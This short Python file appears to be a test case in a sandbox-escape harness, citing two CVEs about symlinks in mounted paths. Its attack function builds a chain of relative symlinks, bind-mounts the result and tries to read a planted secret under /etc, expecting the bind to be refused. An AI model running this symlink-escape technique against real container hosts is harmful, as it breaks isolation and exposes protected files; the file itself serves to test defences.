"""A chain of relative links leads out of the workspace, one harmless step after another."""

import os

from bypass import refused

SOURCE = "CVE-2024-9341, CVE-2024-9407: links in paths that are mounted"
WAY = "create"
STOPPED = refused("bind-blocked")


def attack(t):
    secret = t.plant("/etc/secret-" + t.id)
    os.symlink("..", t.host + "/a")
    os.symlink("a/..", t.host + "/b")
    os.symlink("b/etc", t.host + "/c")
    t.bind(t.host + "/c", "/x")
    return t.leaked(t.run("cat /x" + secret[len("/etc"):]))
